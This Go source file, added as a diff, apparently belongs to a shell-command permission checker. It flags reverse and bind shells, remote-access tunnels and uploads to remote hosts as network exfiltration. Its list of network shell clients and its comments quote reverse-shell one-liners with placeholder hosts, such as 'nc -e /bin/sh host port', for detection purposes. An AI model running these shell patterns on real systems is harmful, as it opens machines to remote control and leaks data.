@@ -1,0 +1,237 @@
+package danger
+
+import (
+	"path"
+	"slices"
+	"strings"
+
+	"github.com/permsim/permsim/engine/shell"
+)
+
+// Shells handed to another host, and this machine opened to others
+// (issue 30: the reverse and bind shells of GTFOBins, remote-access
+// tunnels, uploads through programs no rule named).
+
+// netClients are programs that carry a shell's input and output over a
+// network connection when piped to one.
+var netClients = map[string]bool{"nc": true, "ncat": true, "netcat": true, "nc.traditional": true, "nc.openbsd": true, "telnet": true, "socat": true, "openssl": true, "cryptcat": true}
+
+// remoteAccess flags a program that runs a shell for a network peer, opens
+// this machine to remote use (tunnels, VNC, a cluster proxy on every
+// address), or sends local files to a host.
+func (c *checker) remoteAccess(u unit) {
+	cmd, name, ok := u.program()
+	if !ok {
+		return
+	}
+	args := cmd.Args
+	v := verbs(args, 3)
+	first := ""
+	if len(v) > 0 {
+		first = v[0]
+	}
+	switch name {
+	case "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "cryptcat":
+		// "nc -e /bin/sh host port", "ncat -l --sh-exec …": the peer drives a program.
+		for _, a := range args {
+			if a.Literal && (a.Lit == "-e" || a.Lit == "-c" || a.Lit == "--exec" || a.Lit == "--sh-exec" || a.Lit == "--lua-exec" ||
+				strings.HasPrefix(a.Lit, "-e/") || strings.HasPrefix(a.Lit, "--exec=") || strings.HasPrefix(a.Lit, "--sh-exec=")) {
+				c.add(NetworkExfiltration)
+			}
+		}
+	case "socat":
+		runs, network := false, false
+		for _, o := range operands(args) {
+			kind, _, _ := strings.Cut(strings.ToUpper(o.Lit), ":")
+			switch {
+			case kind == "EXEC" || kind == "SYSTEM":
+				runs = true
+			case socatNetwork(kind):
+				network = true
+			}
+		}
+		if runs && network {
+			c.add(NetworkExfiltration)
+		}
+	case "code", "code-insiders":
+		if first == "tunnel" && !(len(v) > 1 && slices.Contains([]string{"status", "kill", "prune", "user", "unregister", "help"}, v[1])) && !hasLit(args, "--help", "-h") {
+			c.add(NetworkExfiltration)
+		}
+	case "tailscale":
+		if (first == "funnel" || first == "serve") && !hasLit(args, "off", "reset", "status", "--help") {
+			c.add(NetworkExfiltration)
+		}
+	case "ngrok":
+		if slices.Contains([]string{"http", "tcp", "tls", "start"}, first) {
+			c.add(NetworkExfiltration)
+		}
+	case "cloudflared":
+		if first == "tunnel" && (hasLit(args, "--url") || slices.Contains(v, "run") || slices.ContainsFunc(args, func(w shell.Word) bool { return strings.HasPrefix(w.Lit, "--url=") })) {
+			c.add(NetworkExfiltration)
+		}
+	case "kubectl", "oc":
+		if (first == "proxy" || first == "port-forward") && listensBeyondLocalhost(args) {
+			c.add(NetworkExfiltration)
+		}
+	case "socket":
+		// socket(1): "-p PROGRAM" (or -qvp) runs a program for the peer.
+		if slices.ContainsFunc(args, func(w shell.Word) bool {
+			return w.Literal && len(w.Lit) > 1 && w.Lit[0] == '-' && w.Lit[1] != '-' && strings.HasSuffix(w.Lit, "p")
+		}) {
+			c.add(NetworkExfiltration)
+		}
+	case "x11vnc", "x0vncserver", "vncserver", "tightvncserver", "Xvnc":
+		if !hasLit(args, "-kill", "--kill", "-list", "--list", "-help", "--help") {
+			c.add(NetworkExfiltration)
+		}
+	case "transfersh", "transfer":
+		if len(operands(args)) > 0 {
+			c.add(NetworkExfiltration)
+		}
+	case "picgo", "immich":
+		if first == "upload" {
+			c.add(NetworkExfiltration)
+		}
+	case "s3cmd":
+		if (first == "put" || first == "sync") && len(v) == 3 && !strings.HasPrefix(v[1], "s3://") && strings.HasPrefix(v[2], "s3://") {
+			c.add(NetworkExfiltration)
+		}
+	case "rclone":
+		if slices.Contains([]string{"copy", "sync", "move", "copyto", "moveto"}, first) && len(v) > 2 && !isRemote(v[1]) && isRemote(v[2]) {
+			c.add(NetworkExfiltration)
+		}
+	case "kcat", "kafkacat":
+		if hasLit(args, "-P") {
+			c.add(NetworkExfiltration)
+		}
+	case "lp", "lpr":
+		if hasLit(args, "-h", "-H") && len(operands(args)) > 1 {
+			c.add(NetworkExfiltration) // a file printed on another host's server
+		}
+	case "ab":
+		if hasLit(args, "-p", "-u") {
+			c.add(NetworkExfiltration)
+		}
+	case "hping3":
+		if hasLit(args, "--file", "-E") {
+			c.add(NetworkExfiltration)
+		}
+	case "twurl":
+		if hasLit(args, "-f", "--file", "-F") {
+			c.add(NetworkExfiltration)
+		}
+	case "smbclient", "tftp":
+		// "smbclient //host/share -c 'put FILE'": the commands it is given.
+		for i, a := range args {
+			if a.Literal && (a.Lit == "-c" || a.Lit == "--command") && i+1 < len(args) {
+				for _, part := range strings.Split(args[i+1].Lit, ";") {
+					f := strings.Fields(part)
+					switch {
+					case len(f) > 0 && (f[0] == "put" || f[0] == "mput"):
+						c.add(NetworkExfiltration)
+					case len(f) == 3 && f[0] == "get":
+						c.written(shell.Resolve(f[2], u.dir, c.home)) // the local copy
+					}
+				}
+			}
+		}
+	}
+}
+
+// socatNetwork reports a socat address type that talks to the network.
+func socatNetwork(kind string) bool {
+	for _, p := range []string{"TCP", "UDP", "SCTP", "OPENSSL", "SSL", "PROXY", "SOCKS", "DCCP", "UDPLITE"} {
+		if strings.HasPrefix(kind, p) {
+			return true
+		}
+	}
+	return false
+}
+
+// listensBeyondLocalhost reports kubectl proxy or port-forward told to
+// listen on an address other than the loopback one.
+func listensBeyondLocalhost(args []shell.Word) bool {
+	for i, a := range args {
+		val := ""
+		switch {
+		case a.Lit == "--address" && i+1 < len(args):
+			val = args[i+1].Lit
+		case strings.HasPrefix(a.Lit, "--address="):
+			val = strings.TrimPrefix(a.Lit, "--address=")
+		default:
+			continue
+		}
+		for _, addr := range strings.Split(val, ",") {
+			if addr != "localhost" && addr != "127.0.0.1" && addr != "::1" {
+				return true
+			}
+		}
+	}
+	return false
+}
+
+// shellOverNetwork flags a shell whose input or output goes through a
+// network client in the same pipeline ("nc host p </tmp/f | sh >/tmp/f",
+// "sh -i 2>&1 | openssl s_client -connect host:p"), and zsh's ztcp with a
+// shell in the same script.
+func (c *checker) shellOverNetwork(s *shell.Script, units [][]unit) {
+	isShell := func(u unit) bool {
+		cmd, name, ok := u.program()
+		if !ok || !shellNames[name] {
+			return false
+		}
+		for _, a := range cmd.Args {
+			if a.Literal && a.Lit == "-i" {
+				return true
+			}
+			if !a.Literal || !strings.HasPrefix(a.Lit, "-") || a.Lit == "-c" {
+				return false // a script or a command string: judged on its own
+			}
+		}
+		return true
+	}
+	isClient := func(u unit) bool {
+		cmd, name, ok := u.program()
+		if !ok || !netClients[name] {
+			return false
+		}
+		return name != "openssl" || len(cmd.Args) > 0 && (cmd.Args[0].Lit == "s_client" || cmd.Args[0].Lit == "s_server")
+	}
+	ztcp, shells := false, false
+	for i := range s.Commands {
+		for _, u := range units[i] {
+			_, name, _ := u.program()
+			ztcp = ztcp || name == "ztcp"
+			shells = shells || isShell(u)
+		}
+		for j := range s.Commands {
+			if i == j || s.Commands[j].Pipeline != s.Commands[i].Pipeline {
+				continue
+			}
+			if anyUnit(units[i], isShell) && anyUnit(units[j], isClient) {
+				c.add(NetworkExfiltration)
+			}
+		}
+	}
+	if ztcp && shells {
+		c.add(NetworkExfiltration)
+	}
+}
+
+// otherShells are shells whose -c script engine/shell does not unwrap
+// (csh, tcsh, fish, ash, mksh, yash): their -c text is parsed as a POSIX
+// script, which their simple commands and redirects read the same.
+var otherShells = map[string]bool{"csh": true, "tcsh": true, "fish": true, "ash": true, "mksh": true, "yash": true, "posh": true}
+
+// otherShellScript returns the -c script of such a shell.
+func otherShellScript(cmd *shell.Command) (string, bool) {
+	if !otherShells[path.Base(cmd.Name)] {
+		return "", false
+	}
+	for i, a := range cmd.Args {
+		if a.Literal && a.Lit == "-c" && i+1 < len(cmd.Args) && cmd.Args[i+1].Literal {
+			return cmd.Args[i+1].Lit, true
+		}
+	}
+	return "", false
+}
